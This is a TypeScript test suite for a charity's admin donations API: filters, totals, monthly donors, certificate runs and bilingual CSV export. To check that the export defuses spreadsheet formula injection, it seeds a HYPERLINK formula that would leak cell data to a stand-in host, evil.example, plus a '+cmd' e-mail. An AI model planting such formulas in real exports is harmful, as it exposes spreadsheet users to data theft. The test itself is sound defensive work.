// The admin's Donations tab API: the ledger with its filters (date in Swiss time, project, currency,
// kind, state) and pages, each gift's project ledger rows, totals per project, month and currency,
// the monthly donors, the CSV export in both languages (byte-order mark, separator, headers,
// project titles, Swiss time, quoting, formula injection, audited), the certificate
// overview and runs; every route behind the admin credential (and CSRF for a session's changes),
// bad filters a 400 naming the problem.
import { test, before, after, describe } from 'node:test';
import assert from 'node:assert/strict';
import request from 'supertest';
import { testApp } from '../helpers';
import type { AppHandle } from '../../app';
import { listAudit } from '../../models/people/audit';
import { addToLedger } from '../../models/content/ledger';
import type { DonationPage } from '../../models/giving/donations-admin';

const ADMIN = { 'X-Admin-Key': 'demo-admin-key-change-me' };
const BASE = '/api/admin/donations';

/**
 * A tiny RFC 4180 reader (quoted cells with separators, quotes and line breaks). The file must
 * start with the UTF-8 byte-order mark (Excel reads UTF-8 only then).
 */
function parseCsv(text: string, separator: ',' | ';' = ','): string[][] {
  assert.equal(text.charCodeAt(0), 0xfeff, 'the file starts with the byte-order mark');
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 1; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) row.push(cell), (cell = '');
    else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      (row = []), (cell = ''), i++;
    } else cell += c;
  }
  if (cell || row.length) row.push(cell), rows.push(row);
  return rows;
}

let pi = 0;
async function gift(
  h: AppHandle,
  g: { email?: string | null; name?: string | null; cents: number; currency: string; at: string; settled?: number; status?: string; refunded?: number; disputed?: number; dispute?: string | null; kind?: 'one_off' | 'monthly'; projectId?: number | null },
): Promise<number> {
  const [row] = (await h.deps.db('donations').insert(
    {
      paymentIntentId: `pi_admin_${++pi}`,
      amountCents: g.cents,
      currency: g.currency,
      status: g.status ?? 'succeeded',
      appliedAt: g.status === 'failed' ? null : g.at,
      createdAt: g.at,
      donorEmail: g.email === undefined ? `donor${pi}@example.org` : g.email,
      donorName: g.name === undefined ? `Donor ${pi}` : g.name,
      language: 'en',
      kind: g.kind ?? 'one_off',
      refundedCents: g.refunded ?? 0,
      disputedCents: g.disputed ?? 0,
      disputeStatus: g.dispute ?? null,
      settledCents: g.status === 'failed' ? null : (g.settled ?? g.cents),
      settledCurrency: g.status === 'failed' ? null : 'usd',
      projectId: g.projectId ?? null,
    },
    ['id'],
  )) as ({ id: number } | number)[];
  return typeof row === 'object' ? row.id : Number(row);
}

describe('admin donations', () => {
  let h: AppHandle;
  let project: { id: number; title: string };
  const ids: Record<string, number> = {};
  before(async () => {
    h = await testApp({}, { worker: false });
    project = (await h.deps.db('projects').orderBy('id').first('id', 'title')) as { id: number; title: string };
    // March 2025: a CHF gift to the project, settled for USD 110, 40 CHF refunded later (ledger: +110, -44).
    ids.chf = await gift(h, { cents: 10_000, currency: 'chf', settled: 11_000, at: '2025-03-10T09:00:00.000Z', refunded: 4_000, projectId: project.id, name: 'Anna Muster', email: 'anna@example.org' });
    await h.deps.db.transaction(async (trx) => {
      await addToLedger(trx, { projectId: project.id, kind: 'donation', amountCents: 11_000, donationId: ids.chf, actor: 'stripe:webhook' });
      await addToLedger(trx, { projectId: project.id, kind: 'refund', amountCents: -4_400, donationId: ids.chf, actor: 'stripe:webhook', note: 'refund re_1' });
    });
    // The first minutes of April in Lucerne (still March in UTC); monthly; General Support.
    ids.april = await gift(h, { cents: 2_500, currency: 'usd', at: '2025-03-31T22:30:00.000Z', kind: 'monthly' });
    // A EUR gift lost in a dispute (settled 220 USD), a USD gift refunded in full, a failed attempt.
    ids.dispute = await gift(h, { cents: 20_000, currency: 'eur', settled: 22_000, at: '2025-04-05T12:00:00.000Z', disputed: 20_000, dispute: 'lost' });
    ids.refunded = await gift(h, { cents: 3_000, currency: 'usd', at: '2025-04-06T12:00:00.000Z', refunded: 3_000 });
    ids.failed = await gift(h, { cents: 5_000, currency: 'chf', at: '2025-04-07T12:00:00.000Z', status: 'failed' });
    // Someone trying to smuggle a formula into a spreadsheet.
    ids.evil = await gift(h, { cents: 1_000, currency: 'usd', at: '2025-05-01T12:00:00.000Z', name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")', email: '+cmd@example.org' });
    // Enough January gifts for three pages.
    for (let i = 0; i < 101; i++) await gift(h, { cents: 100 + i, currency: 'chf', at: `2024-01-${String(1 + (i % 28)).padStart(2, '0')}T10:00:00.000Z` });

    const sub = (id: string, status: string, paused: boolean, email: string) =>
      h.deps.db('donation_subscriptions').insert({ subscriptionId: id, customerId: `cus_${id}`, donorEmail: email, donorName: email.split('@')[0], amountCents: 2_000, currency: 'chf', projectId: project.id, language: 'de', status, paused, currentPeriodEnd: '2026-12-01T00:00:00.000Z' });
    await sub('sub_a', 'active', false, 'monthly.a@example.org');
    await sub('sub_b', 'active', false, 'monthly.b@example.org');
    await sub('sub_p', 'active', true, 'monthly.p@example.org');
    await sub('sub_c', 'canceled', false, 'monthly.c@example.org');
  });
  after(async () => {
    await h.close();
  });

  const list = async (q = '') => (await request(h.app).get(`${BASE}${q}`).set(ADMIN).expect(200)).body as DonationPage;

  test('every donations route needs an admin credential, and a session needs the CSRF token to start a run', async () => {
    for (const [method, path] of [
      ['get', BASE],
      ['get', `${BASE}.csv`],
      ['get', `${BASE}/monthly`],
      ['get', `${BASE}/certificates`],
      ['post', `${BASE}/certificates/runs`],
      ['get', `${BASE}/certificates/runs/1`],
    ] as const) {
      const res = await request(h.app)[method](path);
      assert.equal(res.status, 401, `${method} ${path}`);
      assert.ok(res.body.error);
      assert.equal((await request(h.app)[method](path).set('X-Admin-Key', 'wrong')).status, 401);
    }
    const agent = request.agent(h.app);
    await agent.post('/api/admin/login').send({ key: ADMIN['X-Admin-Key'] }).expect(200);
    await agent.get(BASE).expect(200);
    await agent.post(`${BASE}/certificates/runs`).send({ year: 2025 }).expect(403);
    assert.equal((await h.deps.db('certificate_runs')).length, 0);
  });

  test('bad filters are a 400 naming the field', async () => {
    for (const [q, field] of [
      ['?from=2025-13-01', 'from'],
      ['?to=2025-02-30', 'to'],
      ['?from=yesterday', 'from'],
      ['?from=2025-05-01&to=2025-04-01', 'to'],
      ['?currency=gbp', 'currency'],
      ['?currency=usd&currency=chf', 'currency'],
      ['?kind=weekly', 'kind'],
      ['?status=lost', 'status'],
      ['?project=abc', 'project'],
      ['?project=99999999999', 'project'],
      ['?page=0', 'page'],
      ['?page=-1', 'page'],
    ] as const) {
      for (const path of [BASE, `${BASE}.csv`]) {
        const res = await request(h.app).get(`${path}${q}`).set(ADMIN);
        assert.equal(res.status, 400, `${path}${q}`);
        assert.equal(res.body.code, 'validation', q);
        assert.ok(res.body.fields?.[field], `${q}: ${JSON.stringify(res.body)}`);
      }
    }
    assert.equal((await request(h.app).get(`${BASE}/certificates?year=1999`).set(ADMIN)).status, 400);
    assert.equal((await request(h.app).get(`${BASE}/certificates?year=abc`).set(ADMIN)).status, 400);
    for (const body of [{}, { year: 'abc' }, { year: 2025.5 }, { year: new Date().getUTCFullYear() + 2 }, { year: [2025] }]) {
      const res = await request(h.app).post(`${BASE}/certificates/runs`).set(ADMIN).send(body);
      assert.equal(res.status, 400, JSON.stringify(body));
      assert.ok(res.body.fields?.year, JSON.stringify(res.body));
    }
    assert.equal((await request(h.app).get(`${BASE}/certificates/runs/abc`).set(ADMIN)).status, 400);
    assert.equal((await request(h.app).get(`${BASE}/certificates/runs/999`).set(ADMIN)).status, 404);
    // Empty values mean "any".
    assert.equal((await list('?from=&to=&project=&currency=&kind=&status=')).total, 107);
  });

  test('filters: dates in Swiss time, project, currency, kind and state', async () => {
    const all = await list();
    assert.equal(all.total, 107);
    assert.equal(all.pages, 3);
    assert.equal(all.rows.length, 50);
    assert.deepEqual(all.rows.slice(0, 6).map((r) => r.id), [ids.evil, ids.failed, ids.refunded, ids.dispute, ids.april, ids.chf], 'newest first');

    const march = await list('?from=2025-03-01&to=2025-03-31');
    assert.deepEqual(march.rows.map((r) => r.id), [ids.chf], 'a gift at 00:30 on 1 April in Lucerne is April');
    const april = await list('?from=2025-04-01&to=2025-04-30');
    assert.deepEqual(april.rows.map((r) => r.id), [ids.failed, ids.refunded, ids.dispute, ids.april]);

    assert.deepEqual((await list(`?project=${project.id}`)).rows.map((r) => r.id), [ids.chf]);
    assert.equal((await list('?project=general')).total, 106);
    assert.deepEqual((await list('?currency=eur')).rows.map((r) => r.id), [ids.dispute]);
    assert.deepEqual((await list('?kind=monthly')).rows.map((r) => r.id), [ids.april]);
    assert.deepEqual((await list('?status=failed')).rows.map((r) => r.id), [ids.failed]);
    assert.deepEqual((await list('?status=disputed')).rows.map((r) => r.id), [ids.dispute]);
    assert.deepEqual((await list('?status=refunded')).rows.map((r) => r.id), [ids.refunded]);
    assert.deepEqual((await list('?status=partially_refunded')).rows.map((r) => r.id), [ids.chf]);
    assert.equal((await list('?status=succeeded')).total, 103);
    assert.deepEqual((await list('?status=succeeded&from=2025-01-01')).rows.map((r) => r.id), [ids.evil, ids.april]);

    // Pages: the last one has the rest; a page past the end is the last page.
    const third = await list('?page=3');
    assert.equal(third.page, 3);
    assert.equal(third.rows.length, 7);
    assert.equal((await list('?page=99')).page, 3);
  });

  test('each row shows what the donor gave, what Stripe settled, its state and its ledger rows', async () => {
    const row = (await list(`?project=${project.id}`)).rows[0]!;
    assert.equal(row.donorName, 'Anna Muster');
    assert.equal(row.donorEmail, 'anna@example.org');
    assert.equal(row.projectTitle, project.title);
    assert.deepEqual([row.amountCents, row.currency, row.settledCents, row.settledCurrency], [10_000, 'chf', 11_000, 'usd']);
    assert.deepEqual([row.kind, row.state, row.refundedCents, row.creditedCents], ['one_off', 'partially_refunded', 4_000, 6_600]);
    assert.deepEqual(row.ledger.map((e) => [e.kind, e.amountCents]), [['donation', 11_000], ['refund', -4_400]]);
    assert.match(row.reference, /^D-2025-\d{6}$/);
    const dispute = (await list('?currency=eur')).rows[0]!;
    assert.deepEqual([dispute.state, dispute.disputeStatus, dispute.disputedCents, dispute.creditedCents], ['disputed', 'lost', 20_000, 0]);
    assert.ok((await list()).projects.some((p) => p.id === project.id), 'the projects to filter by');
  });

  test('totals per project (USD credited), per month and per currency', async () => {
    const { totals } = await list('?from=2025-01-01');
    assert.deepEqual(
      totals.byCurrency.map((c) => [c.currency, c.gifts, c.grossCents, c.refundedCents, c.disputedCents, c.netCents]),
      [
        ['usd', 3, 6_500, 3_000, 0, 3_500],
        ['chf', 1, 10_000, 4_000, 0, 6_000],
        ['eur', 1, 20_000, 0, 20_000, 0],
      ],
      'the failed attempt counts nowhere',
    );
    assert.deepEqual(
      totals.byMonth.map((m) => [m.month, m.currency, m.grossCents, m.netCents]),
      [
        ['2025-05', 'usd', 1_000, 1_000],
        ['2025-04', 'usd', 5_500, 2_500],
        ['2025-04', 'eur', 20_000, 0],
        ['2025-03', 'chf', 10_000, 6_000],
      ],
    );
    assert.deepEqual(
      totals.byProject.map((p) => [p.projectId, p.gifts, p.creditedCents]),
      [
        [project.id, 1, 6_600],
        [null, 4, 3_500],
      ],
    );
    assert.equal(totals.creditedCents, 10_100);
  });

  test('the CSV export in English: the filtered rows, byte-order mark, commas, Swiss time, quoted, formulas defused, and audited', async () => {
    const res = await request(h.app).get(`${BASE}.csv?from=2025-01-01`).set(ADMIN).expect(200);
    assert.match(res.headers['content-type']!, /^text\/csv; charset=utf-8/);
    assert.match(res.headers['content-disposition']!, /attachment; filename="?donations-\d{4}-\d{2}-\d{2}\.csv"?/);
    const rows = parseCsv(res.text);
    assert.deepEqual(rows[0], [
      'Date (Swiss time)',
      'Reference',
      'Donor name',
      'Donor e-mail',
      'Project',
      'Amount',
      'Currency',
      'Settled',
      'Settled currency',
      'Kind',
      'Status',
      'Refunded',
      'Disputed',
      'Dispute status',
      'Credited (USD)',
      'Stripe payment',
      'Method',
      'Interval',
    ]);
    assert.equal(rows.length, 7, 'header and six donations');
    assert.ok(rows.every((r) => r.length === 18), 'eighteen cells in every row');
    const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
    assert.ok(evil, 'the e-mail starting with + is defused');
    assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    assert.ok(res.text.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`), 'quoted per RFC 4180');
    for (const cell of rows.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
    const anna = rows.find((r) => r[3] === 'anna@example.org')!;
    // 09:00 UTC on 10 March 2025 is 10:00 in Switzerland (winter time).
    assert.equal(anna[0], '2025-03-10 10:00');
    assert.equal(anna[4], project.title);
    assert.deepEqual([anna[5], anna[6], anna[7], anna[9], anna[10], anna[11], anna[14]], ['100.00', 'CHF', '110.00', 'One-off', 'Partially refunded', '40.00', '66.00']);
    // 22:30 UTC on 31 March is already 1 April in Lucerne (summer time): Swiss time, not UTC.
    const april = rows.find((r) => r[9] === 'Monthly')!;
    assert.deepEqual([april[0], april[4], april[17]], ['2025-04-01 00:30', 'General Support', 'Monthly']);
    assert.equal(anna[17], '', 'a one-off gift has no interval');
    const lost = rows.find((r) => r[6] === 'EUR')!;
    assert.deepEqual([lost[10], lost[13]], ['Disputed', 'lost']);
    const audit = (await listAudit(h.deps.db, { entity: 'donations' }))[0]!;
    assert.deepEqual([audit.action, audit.summary, audit.actor.startsWith('key:')], ['export', '6', true]);
  });

  test("the CSV export in German (the admin's lang=de): byte-order mark, semicolons, German headers, project titles and values, Swiss time, formulas defused", async () => {
    const titleDe = ((await h.deps.db('projects').where({ id: project.id }).first('titleDe')) as { titleDe: string }).titleDe;
    assert.ok(titleDe && titleDe !== project.title, 'the seeded project has its own German title');
    const res = await request(h.app).get(`${BASE}.csv?from=2025-01-01&lang=de`).set(ADMIN).expect(200);
    assert.match(res.headers['content-type']!, /^text\/csv; charset=utf-8/);
    const rows = parseCsv(res.text, ';');
    assert.deepEqual(rows[0], [
      'Datum (Schweizer Zeit)',
      'Referenz',
      'Name',
      'E-Mail',
      'Projekt',
      'Betrag',
      'Währung',
      'Abgerechnet',
      'Abgerechnete Währung',
      'Art',
      'Status',
      'Rückerstattet',
      'Beanstandet',
      'Status der Beanstandung',
      'Gutgeschrieben (USD)',
      'Stripe-Zahlung',
      'Zahlungsart',
      'Rhythmus',
    ]);
    assert.equal(rows.length, 7);
    assert.ok(rows.every((r) => r.length === 18), 'eighteen cells in every row, split at the semicolons');
    const anna = rows.find((r) => r[3] === 'anna@example.org')!;
    assert.equal(anna[0], '10.03.2025 10:00');
    assert.equal(anna[4], titleDe, 'the German title of the project');
    assert.deepEqual([anna[5], anna[6], anna[9], anna[10], anna[11], anna[14]], ['100.00', 'CHF', 'Einmalig', 'Teilweise rückerstattet', '40.00', '66.00']);
    const april = rows.find((r) => r[9] === 'Monatlich')!;
    assert.deepEqual([april[0], april[4]], ['01.04.2025 00:30', 'Allgemeine Unterstützung']);
    const lost = rows.find((r) => r[6] === 'EUR')!;
    assert.deepEqual([lost[10], lost[13]], ['Beanstandet', 'verloren']);
    // The formula guard holds in German too.
    const evil = rows.find((r) => r[3] === "'+cmd@example.org")!;
    assert.equal(evil[2], `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    for (const cell of rows.slice(1).flat()) assert.doesNotMatch(cell, /^[=+\-@]/, cell);
    // No English words in the German file.
    assert.doesNotMatch(res.text, /General Support|Partially refunded|One-off|Swiss time/);
    const unknown = await request(h.app).get(`${BASE}.csv?lang=english`).set(ADMIN);
    assert.equal(unknown.status, 400);
    assert.equal(unknown.body.code, 'bad_request');
  });

  test('monthly donors: active, paused, ended', async () => {
    const res = await request(h.app).get(`${BASE}/monthly`).set(ADMIN).expect(200);
    assert.deepEqual(res.body.counts, { active: 2, paused: 1, ended: 1 });
    assert.deepEqual(res.body.monthly, [{ currency: 'chf', amountCents: 4_000 }]);
    assert.deepEqual(
      res.body.donors.map((d: { donorEmail: string; state: string }) => [d.donorEmail, d.state]),
      [
        ['monthly.p@example.org', 'paused'],
        ['monthly.b@example.org', 'active'],
        ['monthly.a@example.org', 'active'],
      ],
    );
  });

  test('certificates: the donors of a year, a run started (audited) and its progress', async () => {
    const overview = await request(h.app).get(`${BASE}/certificates?year=2025`).set(ADMIN).expect(200);
    assert.deepEqual([overview.body.year, overview.body.donors, overview.body.giftsWithoutEmail, overview.body.runs], [2025, 5, 0, []]);
    const started = await request(h.app).post(`${BASE}/certificates/runs`).set(ADMIN).send({ year: '2025' }).expect(202);
    assert.deepEqual([started.body.run.year, started.body.run.status, started.body.run.total], [2025, 'running', null]);
    const audit = (await listAudit(h.deps.db, { entity: 'certificates' }))[0]!;
    assert.deepEqual([audit.action, audit.summary, audit.entityId], ['start', '2025', String(started.body.run.id)]);
    const one = await request(h.app).get(`${BASE}/certificates/runs/${started.body.run.id}`).set(ADMIN).expect(200);
    assert.equal(one.body.run.id, started.body.run.id);
    const again = await request(h.app).get(`${BASE}/certificates?year=2025`).set(ADMIN).expect(200);
    assert.equal(again.body.runs.length, 1);
    assert.equal((await request(h.app).post(`${BASE}/certificates/runs`).set(ADMIN).send({ year: 2025 })).status, 409);
  });
});
